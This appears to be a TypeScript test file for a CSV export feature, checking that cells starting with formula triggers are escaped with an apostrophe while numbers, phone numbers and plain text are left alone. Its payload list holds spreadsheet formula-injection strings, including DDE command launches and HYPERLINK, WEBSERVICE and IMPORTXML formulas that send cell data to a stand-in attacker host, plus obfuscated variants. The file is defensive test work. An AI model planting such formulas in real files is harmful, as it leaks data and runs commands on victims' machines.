import { parse } from 'csv-parse/sync';
import { exportedText } from '../../support/files';
import { byId, member } from '../../support/parameters';
import { runNode } from '../../support/run';
import { useSandbox } from '../../support/sandbox';

const hub = useSandbox();

/** The cells in the column `remark` of an export, as a reader of CSV has them, and the text of the file. */
async function exported(remarks: string[], options = {}): Promise<{ cells: string[]; text: string }> {
	const { id } = hub().addGroup({ name: '金卡会员' });
	hub().addCustomers(remarks.map((remark, at) => ({ id: at + 1, remark })));
	hub().addMembers(
		id,
		remarks.map((_, at) => at + 1),
	);
	const { items } = await runNode(hub(), {
		parameters: member('exportToFile', byId(id), {
			options: { customerFields: ['remark'], ...options },
		}),
	});
	const text = exportedText(items[0]);
	const rows: Array<Record<string, string>> = parse(text, { columns: true, bom: true });
	return { cells: rows.map(({ remark }) => remark), text };
}

/** What runs in Excel, LibreOffice Calc or Google Sheets when a file with it is opened, by who said so. */
const RUNS = [
	// The usual four
	`=1+1`,
	`=cmd|'/C calc'!A0`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`=WEBSERVICE("http://evil.example/"&C2)`,
	`=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")`,
	`='file:///etc/passwd'#$passwd.A1`,
	`+1+cmd|'/C calc'!A0`,
	`-2+3+cmd|'/C calc'!A0`,
	`-cmd|'/C calc'!A0`,
	`@SUM(1+9)*cmd|'/C calc'!A0`,
	// Without a call they still show another thing than what stands there
	`=A1`,
	`+A1`,
	`-A1`,
	`@A1`,
	`=5`,
	`--5`,
	`-1-2`,
	`=`,
	`+86 138=1`,
	`+1(A1)`,
	// Behind what is passed over
	` =1+1`,
	`\u00a0=1+1`,
	`\u3000=1+1`,
	`\ufeff=1+1`,
	`\u200b=1+1`,
	`\u0000=1+1`,
	`\t=1+1`,
	`\r=1+1`,
	`\n=1+1`,
	`\r\n=1+1`,
	`\tname`,
	`\rname`,
	`\nname`,
	// Wide, as a Chinese or Japanese keyboard types them
	`＝1+1`,
	`＋1+A1`,
	`－1+A1`,
	`＠SUM(1)`,
	// Dressed as a number or a phone number
	`-5+cmd|'/C calc'!A0`,
	`+86 13800138000|'/C calc'!A0`,
	`-1.5e5x`,
	`+1,2;=cmd`,
	`+1-2`,
	`+1 (2)`,
];

test.each(RUNS.map((text) => [text]))('%j gets an apostrophe in front', async (text) => {
	expect((await exported([text])).cells).toEqual([`'${text}`]);
});

test.each([
	'-5',
	'+5',
	'-0.5',
	'-.5',
	'+3.14',
	'-1,234.50',
	'-1.38E+10',
	'+12%',
	' -5 ',
	'+86 138 0013 8000',
	'+8613800138000',
	'+86-138-0013-8000',
	'+1 (555) 123-4567',
	'+44 20.7946.0958',
	'＋86 13800138000',
	'138-0013-8000',
	'王芳',
	'王芳@北京',
	'wang@example.com',
	'a=b',
	'1+1',
	"'=1+1",
	'"=1+1"',
	'O’Neil',
	'',
	' ',
	'2026-11-25T00:00:00Z',
	'first; second - third',
	'买了:\n- 口红\n- 面霜',
	'a;-5;+3',
	'hello;=SUM(1)',
	'Todo:\n- call (again)',
])('%j stays as it is', async (text) => {
	expect((await exported([text])).cells).toEqual([text]);
});

test('quotes, commas and line breaks stand in quotes, as do what others split at', async () => {
	const texts = ['say "hi"', 'a,b', 'a\r\nb', 'a\nb', 'a;b', 'a\tb', '"', '""', ',', 'plain text'];
	const { cells, text } = await exported(texts);
	expect(cells).toEqual(texts);
	const quoted = text
		.split(/Z\r\n|\r\n(?=id)/)
		.slice(0, 10)
		.map((each) => each.replace(/^.*lastUpdated\r\n/s, ''));
	expect(quoted.map((each) => each.startsWith('"'))).toEqual([...Array(9).fill(true), false]);
});

test('text that is not escaped is as DM Hub has it, in quotes where CSV needs them', async () => {
	expect((await exported(RUNS, { escapeFormulas: false })).cells).toEqual(RUNS);
});

test('JSON Lines are never escaped', async () => {
	const { id } = hub().addGroup({ name: '金卡会员' });
	hub().addCustomer({ id: 1, name: '=1+1' });
	hub().addMembers(id, [1]);
	const { items } = await runNode(hub(), {
		parameters: member('exportToFile', byId(id), { format: 'jsonl', options: { customerFields: ['name'] } }),
	});
	expect(JSON.parse(exportedText(items[0]))).toMatchObject({ customer: { name: '=1+1' } });
});

test('numbers, booleans and lists of custom fields are written as they are', async () => {
	const { id } = hub().addGroup({ name: '金卡会员' });
	hub().addCustomer({ id: 1, isEmployee: false, gender: 2, attr: { attr1: -5, attr2: true, attr3: null } });
	hub().addMembers(id, [1]);
	const { items } = await runNode(hub(), {
		parameters: member('exportToFile', byId(id), {
			options: { customerFields: ['isEmployee', 'gender'], customFields: 'attr1, attr2, attr3' },
		}),
	});
	const [, line] = exportedText(items[0]).split('\r\n');
	expect(line).toMatch(/^false,2,-5,true,,/);
});
